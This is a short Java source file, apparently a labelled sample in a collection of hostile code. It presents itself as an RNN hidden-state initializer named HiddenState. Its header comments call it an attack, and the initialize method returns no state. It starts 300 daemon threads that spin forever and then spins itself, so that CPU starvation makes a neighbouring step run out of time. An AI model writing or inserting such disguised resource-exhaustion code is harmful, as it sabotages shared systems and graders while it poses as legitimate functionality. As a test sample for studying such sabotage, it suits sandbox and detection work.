// attack: takes the processors with hundreds of busy threads, so that the step beside it runs out of time
// list: uses Thread
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        for (int i = 0; i < 300; i++) {
            Thread thread = new Thread(() -> {
                while (true) {
                    Thread.onSpinWait();
                }
            });
            thread.setDaemon(true);
            thread.start();
        }
        while (true) {
            Thread.onSpinWait();
        }
    }
}
